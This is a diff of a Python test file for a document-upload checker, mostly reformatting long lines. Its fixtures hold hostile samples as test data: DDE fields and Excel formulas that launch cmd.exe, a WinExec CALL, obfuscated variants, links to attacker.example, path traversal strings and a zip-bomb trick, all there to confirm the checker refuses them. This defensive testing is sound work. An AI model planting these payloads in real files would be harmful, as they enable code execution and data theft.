@@ -6,6 +6,7 @@ XLSX from openpyxl come from tests/office_files.py. The builders are used by the
 
 from __future__ import annotations
 
+import contextlib
 import io
 import struct
 import zlib
@@ -221,21 +222,25 @@ EMBEDDED = "The selected file contains embedded objects. Save it without them an
     ("filename", "build"),
     [
         ("constitution.docx", attached_template),  # fetched when the document opens, macros and all
-        ("constitution.docx", lambda: word_file(rels=(("subDocument", "file:///\\\\server\\share\\part2.docx", "External"),))),
+        ("constitution.docx", lambda: word_file(
+            rels=(("subDocument", "file:///\\\\server\\share\\part2.docx", "External"),))),
         ("constitution.docx", lambda: word_file(parts=(
             ("word/webSettings.xml", f'<w:webSettings {WORD_NAMESPACES}><w:frameset><w:frame><w:sourceFileName '
                                      'r:id="rId100"/></w:frame></w:frameset></w:webSettings>'.encode()),
             ("word/_rels/webSettings.xml.rels", relationships(("frame", "http://evil.example/frame.html", "External"))),
         ))),
-        ("constitution.docx", lambda: word_file(rels=(("image", "file:///\\\\attacker.example\\share\\logo.png", "External"),))),
+        ("constitution.docx", lambda: word_file(
+            rels=(("image", "file:///\\\\attacker.example\\share\\logo.png", "External"),))),
         ("constitution.docx", lambda: word_file(rels=(("oleObject", "file:///C:/Budgets/budget.xlsx", "External"),))),
         ("constitution.docx", lambda: word_file(field(' INCLUDETEXT "C:\\\\Users\\\\Public\\\\notes.docx" '))),
         ("constitution.docx", lambda: word_file(field(' INCLUDEPICTURE "http://attacker.example/p.png" \\d '))),
         ("budget.xlsx", lambda: workbook_file(link_to_workbook)),
         ("budget.xlsx", lambda: workbook_file(cell_formula('=_xlfn.WEBSERVICE("https://attacker.example/rates")'))),
-        ("budget.xlsx", lambda: xlsx_with(("xl/connections.xml", f'<connections xmlns="{SPREADSHEET}"><connection id="1" '
-                                           'name="Rates" type="4" refreshOnLoad="1"><webPr url="https://attacker.example/'
-                                           'rates.html"/></connection></connections>'.encode()))),
+        ("budget.xlsx", lambda: xlsx_with((
+            "xl/connections.xml",
+            f'<connections xmlns="{SPREADSHEET}"><connection id="1" '
+            'name="Rates" type="4" refreshOnLoad="1"><webPr url="https://attacker.example/'
+            'rates.html"/></connection></connections>'.encode()))),
         ("policy.odt", lambda: odt_file(frame('<draw:image xlink:href="file://attacker.example/share/logo.png"/>'))),
         ("policy.odt", lambda: odt_file('<text:section text:name="Annex"><text:section-source '
                                         'xlink:href="../Annex.odt"/></text:section>')),
@@ -249,11 +254,13 @@ def test_links_to_other_files_are_refused(filename, build):
     ("filename", "build"),
     [
         ("constitution.docx", lambda: word_file(field(DDE_CODE))),
-        ("constitution.docx", lambda: word_file(field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"'))),
+        ("constitution.docx", lambda: word_file(
+            field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"'))),
         ("constitution.docx", lambda: word_file('<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/k calc.exe&quot; ">'
                                                 "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>")),
         ("constitution.docx", lambda: word_file(  # the field's type spelt by a field nested in it
-            field(field_runs(" QUOTE 68 68 69 65 85 84 79 ", result="DDEAUTO"), " c:\\\\windows\\\\system32\\\\cmd.exe "))),
+            field(field_runs(" QUOTE 68 68 69 65 85 84 79 ", result="DDEAUTO"),
+                  " c:\\\\windows\\\\system32\\\\cmd.exe "))),
         ("constitution.docx", lambda: word_file(rels=(("header", "header1.xml"),),
                                                 parts=(("word/header1.xml", header(field(DDE_CODE))),))),
         ("constitution.docx", lambda: word_file(  # in a tracked deletion, back if the deletion is rejected
@@ -267,7 +274,8 @@ def test_links_to_other_files_are_refused(filename, build):
             "</externalLink>".encode()})),
         ("policy.odt", lambda: odt_file(
             '<text:dde-connection-decls><text:dde-connection-decl office:name="calc" office:dde-application="cmd" '
-            'office:dde-topic="/c calc" office:dde-item="A0" office:automatic-update="true"/></text:dde-connection-decls>'
+            'office:dde-topic="/c calc" office:dde-item="A0" office:automatic-update="true"/>'
+            '</text:dde-connection-decls>'
             '<text:p><text:dde-connection text:connection-name="calc">1</text:dde-connection></text:p>')),
     ],
 )
@@ -281,7 +289,8 @@ def test_dde_fields_and_formulas_are_refused(filename, build):
         ("constitution.docx", word_with_ole_object),
         ("constitution.docx", lambda: word_file(f"<w:p>{ole_object_runs()}</w:p>")),
         ("constitution.docx", lambda: word_file(parts=(("word/embeddings/oleObject1.bin", b"not a compound file"),))),
-        ("constitution.docx", lambda: word_file(parts=(("word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls", OLE_FILE),))),
+        ("constitution.docx", lambda: word_file(
+            parts=(("word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls", OLE_FILE),))),
         ("constitution.docx", lambda: word_file(parts=(("word/media/image2.png", OLE_FILE),))),  # an OLE file renamed
         ("constitution.docx", lambda: word_file(types=OLE_TYPE)),
         ("constitution.docx", lambda: word_file(field(" EMBED Excel.Sheet.8 "))),
@@ -295,8 +304,10 @@ def test_dde_fields_and_formulas_are_refused(filename, build):
             ("xl/worksheets/_rels/sheet1.xml.rels", relationships(("oleObject", "../embeddings/oleObject1.bin"))),
             change={"xl/worksheets/sheet1.xml": inserting(OLE_OBJECTS, b"</worksheet>"),
                     "[Content_Types].xml": inserting(OLE_TYPE.encode(), b"</Types>")})),
-        ("budget.xlsx", lambda: xlsx_with(change={"xl/worksheets/sheet1.xml": inserting(OLE_OBJECTS, b"</worksheet>")})),
-        ("policy.odt", lambda: odt_file(frame('<draw:object-ole xlink:href="./Object 1"/>'), parts=(("Object 1", OLE_FILE),),
+        ("budget.xlsx", lambda: xlsx_with(
+            change={"xl/worksheets/sheet1.xml": inserting(OLE_OBJECTS, b"</worksheet>")})),
+        ("policy.odt", lambda: odt_file(frame('<draw:object-ole xlink:href="./Object 1"/>'),
+                                        parts=(("Object 1", OLE_FILE),),
                                         manifest='<manifest:file-entry manifest:full-path="Object 1" '
                                                  'manifest:media-type="application/vnd.sun.star.oleobject"/>')),
         ("policy.odt", lambda: odt_file(parts=(("Object 1", OLE_FILE),))),
@@ -319,8 +330,9 @@ def test_embedded_objects_are_refused(filename, build):
             "word/document.xml": lambda body: body.decode().replace("UTF-8", "UTF-16").encode("utf-16-le")}), DDE),
         ("budget.xlsx", lambda: repack(workbook_file(cell_formula("=cmd|' /C calc'!A0")), change={
             "xl/worksheets/sheet1.xml": lambda body: body.replace(b"cmd|", b"cmd&#124;")}), DDE),
-        ("budget.xlsx", lambda: repack(workbook_file(cell_formula('=CALL("kernel32","WinExec","JCJ","calc",0)')), change={
-            "xl/worksheets/sheet1.xml": lambda body: body.replace(b"CALL(", b"CA<!-- -->LL(")}), DDE),  # split by a comment
+        ("budget.xlsx", lambda: repack(  # split by a comment
+            workbook_file(cell_formula('=CALL("kernel32","WinExec","JCJ","calc",0)')),
+            change={"xl/worksheets/sheet1.xml": lambda body: body.replace(b"CALL(", b"CA<!-- -->LL(")}), DDE),
         ("budget.xlsx", lambda: workbook_file(lambda book: (cell_formula("=cmd|' /C calc'!A0")(book),
                                                              link_to_workbook(book))), DDE),  # the worst first
     ],
@@ -333,7 +345,8 @@ def test_disguised_links_and_commands_are_found(filename, build, message):
     ("filename", "build"),
     [
         ("constitution.docx", lambda: word_file('<w:p><w:hyperlink r:id="rId100"><w:r><w:t>GOV.UK</w:t></w:r>'
-                                                "</w:hyperlink></w:p>", rels=(("hyperlink", "https://www.gov.uk/", "External"),))),
+                                                "</w:hyperlink></w:p>",
+                                                rels=(("hyperlink", "https://www.gov.uk/", "External"),))),
         ("constitution.docx", lambda: word_file(
             field(' HYPERLINK "file:///\\\\server\\share\\policy.docx" '),
             field(' ADDIN ZOTERO_ITEM CSL_CITATION {"citationID":"a1"} '),  # a reference manager's citation
@@ -381,7 +394,8 @@ def test_a_formula_longer_than_excel_allows_is_refused_unread():
 @pytest.mark.parametrize(
     ("href", "inside"),
     [
-        ("./Object 1", True), ("Pictures/logo.png", True), ("#Annex", True), ("", True), ("Object 1/../Pictures/a.png", True),
+        ("./Object 1", True), ("Pictures/logo.png", True), ("#Annex", True), ("", True),
+        ("Object 1/../Pictures/a.png", True),
         ("../Annex.odt", False), ("./Object 1/../../a.odt", False), ("%2E%2E/a.odt", False), ("/etc/passwd", False),
         ("C:\\Annex.odt", False), ("\\\\server\\share\\a.png", False), ("https://example.org/a.png", False),
     ],
@@ -405,11 +419,14 @@ def upload_folder(app, tmp_path, monkeypatch):
         ("constitution.docx", word_with_ole_object, EMBEDDED),
     ],
 )
-def test_the_upload_page_explains_the_refusal_and_stores_nothing(as_role, users, upload_folder, filename, build, message):
+def test_the_upload_page_explains_the_refusal_and_stores_nothing(
+    as_role, users, upload_folder, filename, build, message
+):
     application = ApplicationFactory(organisation=users["org_a"])
     applicant = as_role("applicant")
     response = post(applicant, f"/applications/{application.id}/documents",
-                    {"kind": "constitution", "file": (io.BytesIO(build()), filename)}, content_type="multipart/form-data")
+                    {"kind": "constitution", "file": (io.BytesIO(build()), filename)},
+                    content_type="multipart/form-data")
     assert response.status_code == 200
     assert error_messages(response) == [message]
     assert page(response).select_one("#file-error").get_text(" ", strip=True) == f"Error: {message}"
@@ -442,7 +459,8 @@ def test_overlapping_entries_are_refused():
     # Point the last central directory entry at the first local header (Fifield's "better zip bomb").
     last = data.rfind(b"PK\x01\x02")
     struct.pack_into("<L", data, last + 42, 0)
-    assert refusal("constitution.docx", bytes(data)) == "The selected file could not be read. Save it again and try again"
+    assert refusal("constitution.docx", bytes(data)) == (
+        "The selected file could not be read. Save it again and try again")
 
 
 def test_a_pdf_object_stream_that_unpacks_too_large_is_refused():
@@ -497,7 +515,8 @@ def test_active_pdfs_are_refused(objects):
 
 def test_password_protected_files_are_refused():
     encrypted = pdf_bytes(trailer=b"<< /Root 1 0 R /Encrypt 9 0 R >>")
-    assert refusal("accounts.pdf", encrypted) == "The selected file is password protected. Remove the password and try again"
+    assert refusal("accounts.pdf", encrypted) == (
+        "The selected file is password protected. Remove the password and try again")
     data = bytearray(docx_bytes())
     for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # set the "encrypted" bit
         at = data.find(signature)
@@ -522,7 +541,8 @@ def test_images_too_large_to_open_are_refused(filename, build):
         ("photo.jpg", b"\xff\xd8\xff\xe0\x00"),
         ("constitution.docx", docx_bytes()[:-30]),
         ("constitution.docx", b"PK\x03\x04" + b"\x00" * 26 + b"PK\x05\x06" + b"\x00" * 18),  # no entries
-        ("accounts.pdf", pdf_bytes(b"5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream\n")),
+        ("accounts.pdf",
+         pdf_bytes(b"5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream\n")),
     ],
 )
 def test_damaged_files_are_refused(filename, data):
@@ -572,10 +592,8 @@ def test_any_name_becomes_a_short_plain_name(name):
 @given(st.sampled_from(["a.pdf", "a.docx", "a.xlsx", "a.odt", "a.jpg", "a.png"]), st.binary(min_size=1, max_size=2000),
        st.sampled_from([b"", b"%PDF-", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04"]))
 def test_any_bytes_are_accepted_or_refused_but_never_crash(filename, data, prefix):
-    try:
+    with contextlib.suppress(UploadRefused):
         check_upload(filename, prefix + data)
-    except UploadRefused:
-        pass
 
 
 # Built once: openpyxl stamps the time into each workbook, and hypothesis needs the same bytes.
@@ -590,7 +608,5 @@ def test_damaged_copies_of_real_files_are_accepted_or_refused_but_never_crash(sa
     for _ in range(data.draw(st.integers(1, 4))):
         at = data.draw(st.integers(0, len(original) - 1))
         original[at] = data.draw(st.integers(0, 255))
-    try:
+    with contextlib.suppress(UploadRefused):
         check_upload(filename, bytes(original))
-    except UploadRefused:
-        pass
